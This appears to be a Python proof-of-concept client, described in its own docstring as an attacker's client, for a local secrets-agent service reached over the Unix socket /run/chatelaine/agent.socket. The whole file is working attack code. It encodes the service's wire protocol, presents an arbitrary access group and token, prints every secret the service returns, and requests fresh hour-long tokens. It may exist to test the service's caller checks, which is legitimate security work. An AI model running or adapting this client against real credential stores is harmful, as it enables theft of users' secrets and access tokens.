"""A client of an attacker's own, which does not look who answers it, written from Docs/agent-protocol.md.

python3 protocol.py search GROUP [TOKEN-FILE]   prints the secrets that the service gives it
python3 protocol.py token GROUP                 prints a token that the service makes for it
"""
import socket
import struct
import sys


def varint(number):
    more = b""
    while number > 127:
        more, number = more + bytes([number & 127 | 128]), number >> 7
    return more + bytes([number])


def field(number, value):
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    value = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(value)) + value


def fixed(number, value):
    return varint(number << 3 | 5) + struct.pack("<I", value)


def take_varint(message, at):
    number = shift = 0
    while True:
        number |= (message[at] & 127) << shift
        at, shift = at + 1, shift + 7
        if message[at - 1] < 128:
            return number, at


def fields(message):
    """The fields of a message by their numbers, the last of each."""
    found, at = {}, 0
    while at < len(message):
        tag, at = take_varint(message, at)
        if tag & 7 == 0:
            value, at = take_varint(message, at)
        else:
            length, at = take_varint(message, at) if tag & 7 == 2 else ({1: 8, 5: 4}[tag & 7], at)
            value, at = message[at:at + length], at + length
        found[tag >> 3] = value
    return found


class Client:
    def __init__(self, group, token=b""):
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect("/run/chatelaine/agent.socket")
        self.send(fixed(1, 0x50414B43) + field(2, 1) + field(4, group))
        hello = self.receive(failure=6)[0]
        self.send(field(1, hello[4]), token)
        self.receive(failure=4)

    def send(self, message, secret=b""):
        self.socket.sendall(struct.pack("<II", len(message), len(secret)) + message + secret)

    def whole(self, length):
        found = b""
        while len(found) < length:
            piece = self.socket.recv(length - len(found))
            if not piece:
                sys.exit("the connection was closed")
            found += piece
        return found

    def receive(self, failure):
        message, secret = struct.unpack("<II", self.whole(8))
        answer, secret = fields(self.whole(message)), self.whole(secret)
        if failure in answer:
            sys.exit("refused: " + fields(answer[failure])[2].decode())
        return answer, secret

    def search(self, group):
        query = field(1, "genp") + field(2, fixed(1, int.from_bytes(b"agrp", "big")) + field(2, group))
        self.send(field(1, 1) + field(5, field(1, query) + field(2, 7)))
        while True:
            reply, secret = self.receive(failure=2)
            if 3 not in reply:
                return
            print("secret:", secret.decode(errors="replace"))
            if reply.get(9) or reply.get(12):
                return

    def token(self, group):
        wanted = field(1, group) + field(3, 3600)
        self.send(field(1, 1) + field(16, field(10, wanted)))
        print("token:", self.receive(failure=2)[1].decode())


if __name__ == "__main__":
    what, group, *tokens = sys.argv[1:]
    token = open(tokens[0], "rb").read().strip() if tokens else b""
    client = Client(group, token)
    getattr(client, what)(group)
